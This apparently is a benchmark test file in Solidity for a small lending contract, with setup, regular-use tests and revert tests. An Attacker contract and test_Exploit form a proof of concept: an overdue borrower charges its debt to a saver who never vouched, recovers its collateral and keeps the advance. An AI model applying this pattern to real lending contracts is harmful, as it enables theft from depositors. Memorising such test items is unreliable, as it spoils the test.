// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.24;

// assay-canary-4b527c22-a97e-4738-90df-474ae02b7fd4

import "./ValeAdvances.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Tally is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Saves, and has approved the contract once and for all.
contract Saver {
    ValeAdvances private vale;

    constructor(ValeAdvances vale_) {
        vale = vale_;
        Tally(address(vale_.cash())).approve(address(vale_), type(uint256).max);
    }

    function save(uint256 amount) external {
        vale.save(amount);
    }

    function unsave(uint256 amount) external {
        vale.unsave(amount);
    }
}

contract Grower {
    ValeAdvances internal vale;

    constructor(ValeAdvances vale_) {
        vale = vale_;
        Tally(address(vale_.cash())).approve(address(vale_), type(uint256).max);
        Tally(address(vale_.receipts())).approve(address(vale_), type(uint256).max);
    }

    function pledgeAndDraw(uint256 amount, uint256 advance) external {
        vale.pledge(amount);
        vale.draw(advance);
    }

    function unpledge(uint256 amount) external {
        vale.unpledge(amount);
    }

    function repay(uint256 amount) external {
        vale.repay(address(this), amount);
    }
}

/// A grower whose advance is overdue.
contract Attacker is Grower {
    constructor(ValeAdvances vale_) Grower(vale_) {}

    function run(address neighbour) external {
        (uint128 debt,) = vale.advances(address(this));
        vale.callIn(address(this), neighbour, debt);
        vale.unpledge(vale.pledged(address(this)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_760_600_000;

    Tally public cash;
    Tally public receipts;
    ValeAdvances public vale;
    Saver public meg;
    Grower public tom;
    Attacker public rook;

    function setUp() public {
        vm.warp(START);
        cash = new Tally();
        receipts = new Tally();
        vale = new ValeAdvances(cash, receipts, 2e6);
        meg = new Saver(vale);
        tom = new Grower(vale);
        rook = new Attacker(vale);
        cash.mint(address(meg), 200_000e6);
        meg.save(120_000e6);
        receipts.mint(address(tom), 10_000e18);
        receipts.mint(address(rook), 40_000e18);
        tom.pledgeAndDraw(10_000e18, 10_000e6);
        rook.pledgeAndDraw(40_000e18, 60_000e6);
        vm.warp(START + 61 days);
    }

    // Cash in the saver's wallet, and its savings.
    function saversWorth() public view returns (uint256) {
        return cash.balanceOf(address(meg)) + vale.savings(address(meg));
    }

    function test_Regular() public {
        require(saversWorth() == 200_000e6 && vale.idle() == 50_000e6, "as saved");
        // This contract stands surety for Tom.
        cash.mint(address(this), 100_000e6);
        cash.approve(address(vale), 4_000e6);
        vale.vouch(address(tom), 4_000e6);
        try vale.vouch(address(tom), 3_000e6) {
            revert("withdrew");
        } catch {}
        vale.callIn(address(tom), address(this), 3_000e6);
        (uint128 debt,) = vale.advances(address(tom));
        require(debt == 7_100e6 && vale.vouched(address(this), address(tom)) == 1_000e6, "called in");
        try vale.callIn(address(tom), address(this), 2_000e6) {
            revert("called in too much");
        } catch {}
        try tom.pledgeAndDraw(0, 1e6) {
            revert("drew while overdue");
        } catch {}

        // Tom repays the rest and takes the receipts back.
        tom.repay(7_100e6);
        tom.unpledge(10_000e18);
        require(receipts.balanceOf(address(tom)) == 10_000e18, "receipts are back");
        try vale.callIn(address(tom), address(this), 1e6) {
            revert("nothing owed");
        } catch {}

        // Nobody helps the other grower; the receipts are sold.
        try rook.unpledge(40_000e18) {
            revert("took the receipts");
        } catch {}
        cash.approve(address(vale), 60_600e6);
        try vale.buyReceipts(address(rook)) returns (uint256) {
            revert("sold early");
        } catch {}
        vm.warp(START + 75 days);
        require(vale.buyReceipts(address(rook)) == 40_000e18, "sold");
        require(receipts.balanceOf(address(this)) == 40_000e18, "bought");
        require(vale.fees() == 700e6 && vale.idle() == 120_700e6, "all cash is back");
        vale.collectFees(700e6);
        meg.unsave(120_000e6);
        require(cash.balanceOf(address(meg)) == 200_000e6 && vale.idle() == 0, "savings are back");

        vale.setAdvancePrice(3e6);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Advances of something, on receipts that cover them.
    function test_RefusesAdvances() public {
        Grower jo = new Grower(vale);
        receipts.mint(address(jo), 100e18);
        refuses(address(jo), abi.encodeWithSelector(ValeAdvances.OutOfRange.selector, 0));
        vale.draw(0);
        refuses(address(jo), abi.encodeWithSelector(ValeAdvances.OutOfRange.selector, 1e6));
        vale.draw(1e6);
        refuses(address(jo), ValeAdvances.OwnSurety.selector);
        vale.vouch(address(jo), 1);
        refuses(address(tom), abi.encodeWithSelector(ValeAdvances.OutOfRange.selector, 0));
        vale.repay(address(tom), 0);
        refuses(address(tom), abi.encodeWithSelector(ValeAdvances.OutOfRange.selector, 10_100e6 + 1));
        vale.repay(address(tom), 10_100e6 + 1);
        vale.vouch(address(jo), 5);
        vale.vouch(address(jo), 4);
        require(vale.vouched(address(this), address(jo)) == 4, "less while nothing is overdue");
        refuses(address(meg), abi.encodeWithSelector(ValeAdvances.NotIdle.selector, 60_000e6));
        vale.unsave(60_000e6);
    }

    /// Sureties are called when an advance is overdue, and are others who have allowed it.
    function test_RefusesCalls() public {
        vm.warp(START);
        vm.expectRevert(ValeAdvances.NotOverdue.selector);
        vale.callIn(address(tom), address(meg), 1);
        vm.warp(START + 61 days);
        vm.expectRevert(ValeAdvances.NotOverdue.selector);
        vale.callIn(address(meg), address(tom), 0);
        vm.expectRevert(ValeAdvances.OwnSurety.selector);
        vale.callIn(address(tom), address(tom), 1);
        vale.vouch(address(tom), 1e6);
        vm.expectRevert(abi.encodeWithSelector(ValeAdvances.Refused.selector, address(this)));
        vale.callIn(address(tom), address(this), 2e6);
        vm.warp(START + 75 days);
        vm.expectRevert(ValeAdvances.NotOverdue.selector);
        vale.buyReceipts(address(meg));
    }

    /// Cash that says no is believed.
    function test_RefusesFailedTransfers() public {
        cash.sleep(true);
        refuses(address(meg), ValeAdvances.CashFailed.selector);
        vale.save(1);
        refuses(address(meg), ValeAdvances.CashFailed.selector);
        vale.unsave(1);
    }

    function exploit() public {
        rook.run(address(meg));
    }

    function test_Exploit() public {
        uint256 before = saversWorth();
        exploit();
        require(saversWorth() + 50_000e6 <= before, "the saver has paid");
        require(receipts.balanceOf(address(rook)) == 40_000e18, "receipts are back");
        require(cash.balanceOf(address(rook)) == 60_000e6, "and the advance kept");
    }

    function target() public view returns (address) {
        return address(vale);
    }

    function attacker() public view returns (address) {
        return address(rook);
    }
}
